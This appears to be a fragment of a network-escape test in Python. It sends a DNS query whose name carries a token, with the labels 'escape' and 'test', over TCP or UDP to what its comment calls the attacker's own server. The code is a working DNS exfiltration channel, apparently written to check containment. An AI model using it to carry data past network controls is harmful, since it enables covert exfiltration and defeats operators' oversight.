# A name that carries a message, asked of a server of the attacker's own.
def attempt():
    name = b"".join(bytes([len(label)]) + label for label in (TOKEN, b"escape", b"test")) + b"\0"
    query = struct.pack("!6H", 4711, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
    if p["over"] == "tcp":
        with socket.create_connection((V4, 53), PATIENCE) as s:
            s.sendall(struct.pack("!H", len(query)) + query)
            answer = s.recv(600)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(PATIENCE)
            s.sendto(query, (V4, 53))
            answer = s.recv(600)
    return "rcode %d" % (answer[3] & 15)
